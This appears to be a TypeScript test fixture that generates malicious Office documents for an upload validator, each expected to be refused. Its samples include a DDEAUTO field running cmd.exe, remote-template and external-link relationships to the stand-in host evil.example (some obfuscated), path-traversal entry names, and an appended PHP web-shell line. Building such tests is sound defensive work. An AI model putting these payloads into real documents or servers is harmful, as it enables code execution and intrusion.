// Office documents with macros, embedded or remote content, or wrong headers.

import { toBytes } from '../../support/file-writers/bytes.ts';
import type { HostileFile } from './hostile-file.ts';
import {
  listDocxParts,
  listXlsxParts,
  toRelationship,
  toRelationships,
  withPart,
} from '../../support/file-writers/office-writer.ts';
import { writeZip, type ZipEntry } from '../../support/file-writers/zip-writer.ts';

const docx = listDocxParts();
const xlsx = listXlsxParts();
const outside = 'Target="https://evil.example/a.dotm"';

/** Parts that are refused by their name or content. */
const badParts: readonly ZipEntry[] = [
  { name: 'word/vbaProject.bin', data: 'VBA' },
  { name: 'word/VBAPROJECT.BIN', data: 'VBA' },
  { name: 'word/macros/vbaProject.bin', data: 'VBA' },
  { name: 'word/vbaData.xml', data: '<a/>' },
  { name: 'word/embeddings/oleObject1.bin', data: 'OLE' },
  { name: 'word/embeddings/a.exe', data: 'MZ' },
  { name: 'word/activeX/activeX1.xml', data: '<a/>' },
  { name: 'word/embeddings/inner.docx', data: writeZip(docx) },
  { name: '../../evil.xml', data: '<a/>' },
  { name: '/etc/passwd', data: 'root' },
  { name: 'word\\..\\..\\evil.xml', data: '<a/>' },
  { name: 'word/secret.xml', data: '<a/>', flags: 1 },
  {
    name: 'word/fields.xml',
    data: '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
  },
];

/** Relationships that make a program load remote content when it opens the document. */
const badRelationships: readonly (readonly [string, string])[] = [
  [
    'a template from outside',
    toRelationship('attachedTemplate', `${outside} TargetMode="External"`),
  ],
  [
    'a template from outside in other quotes',
    toRelationship(
      'attachedTemplate',
      `Target='https://evil.example/a.dotm' TargetMode = 'External'`,
    ),
  ],
  [
    'a template from outside with its mode as an entity',
    toRelationship('attachedTemplate', `${outside} TargetMode="&#69;xternal"`),
  ],
  [
    'a template from outside on another line',
    toRelationship('attachedTemplate', `${outside}\n\tTargetMode\n=\n"External"`),
  ],
  [
    'a template from a share',
    toRelationship(
      'attachedTemplate',
      'Target="file:///\\\\evil.example\\a.dotm" TargetMode="External"',
    ),
  ],
  ['a linked object from outside', toRelationship('oleObject', `${outside} TargetMode="External"`)],
  ['a frame from outside', toRelationship('frame', `${outside} TargetMode="External"`)],
  [
    'a sub-document from outside',
    toRelationship('subDocument', `${outside} TargetMode="External"`),
  ],
  ['a picture from outside', toRelationship('image', `${outside} TargetMode="External"`)],
  [
    'an alternative part from outside',
    toRelationship('aFChunk', `${outside} TargetMode="External"`),
  ],
  [
    'a relationship behind a declared entity',
    `<!DOCTYPE a [<!ENTITY e "External">]>${toRelationship('attachedTemplate', `${outside} TargetMode="&e;"`)}`,
  ],
];

export const officeAttacks: readonly HostileFile[] = [
  ...badParts.map((part) =>
    toAttack(`with ${JSON.stringify(part.name)}`, () => writeZip([...docx, part])),
  ),
  ...badRelationships.map(([name, relationship]) =>
    toAttack(`with ${name}`, () => writeZip(withRelationships(toRelationships(relationship)))),
  ),
  toAttack('with its relationships in UTF-16', () =>
    writeZip(
      withRelationships(
        Buffer.from(
          `\ufeff${toRelationships(toRelationship('attachedTemplate', `${outside} TargetMode="External"`)).replace('UTF-8', 'UTF-16')}`,
          'utf16le',
        ),
      ),
    ),
  ),
  toAttack('with macros by its main type', () => writeZip(listDocxParts('docm'))),
  toAttack('with macros by its main type, as a template', () => writeZip(listDocxParts('dotm'))),
  toAttack('of another kind', () => writeZip(xlsx)),
  toAttack('without its types', () => writeZip(docx.slice(1))),
  toAttack('with its types twice', () => writeZip([...docx, ...listDocxParts('docm').slice(0, 1)])),
  toAttack('with a part twice', () =>
    writeZip([...docx, { name: 'word/document.xml', data: '<a/>' }]),
  ),
  toAttack('with a part twice, in other letters', () =>
    writeZip([...docx, { name: 'WORD/Document.xml', data: '<a/>' }]),
  ),
  toAttack('with a part of a wrong length', () =>
    writeZip([...docx, { name: 'word/a.xml', data: 'a'.repeat(5000), uncompressedSize: 10 }]),
  ),
  toAttack('with something before it', () =>
    writeZip(docx, { before: toBytes('<html><script>alert(1)</script>') }),
  ),
  toAttack('with something after it', () =>
    Buffer.concat([writeZip(docx), toBytes('<?php system($_GET[0]); ?>')]),
  ),
  toAttack('with two directories', () =>
    Buffer.concat([writeZip(listDocxParts('docm')), writeZip(docx)]),
  ),
  toAttack(
    'that is a spreadsheet with macros',
    () => writeZip([...listXlsxParts('xlsm'), { name: 'xl/vbaProject.bin', data: 'VBA' }]),
    'xlsx',
  ),
  toAttack(
    'that is a spreadsheet with an old macro sheet',
    () => writeZip(withPart(xlsx, { name: 'xl/macrosheets/sheet1.xml', data: '<xm:macrosheet/>' })),
    'xlsx',
  ),
  toAttack(
    'that is a spreadsheet with data from outside',
    () =>
      writeZip([
        ...xlsx,
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          data: toRelationships(
            toRelationship('oleObjectLink', `${outside} TargetMode="External"`),
          ),
        },
      ]),
    'xlsx',
  ),
  toAttack(
    'that is a spreadsheet with connections',
    () =>
      writeZip(
        withPart(xlsx, {
          name: 'xl/connections.xml',
          data: '<connections><connection><webPr url="https://evil.example"/></connection></connections>',
        }),
      ),
    'xlsx',
  ),
];

function withRelationships(data: string | Uint8Array): readonly ZipEntry[] {
  return withPart(docx, { name: 'word/_rels/settings.xml.rels', data });
}

function toAttack(name: string, make: () => Uint8Array, extension = 'docx'): HostileFile {
  return {
    group: 'office document',
    name: `document ${name}`,
    extension,
    expected: 'refused',
    make,
  };
}
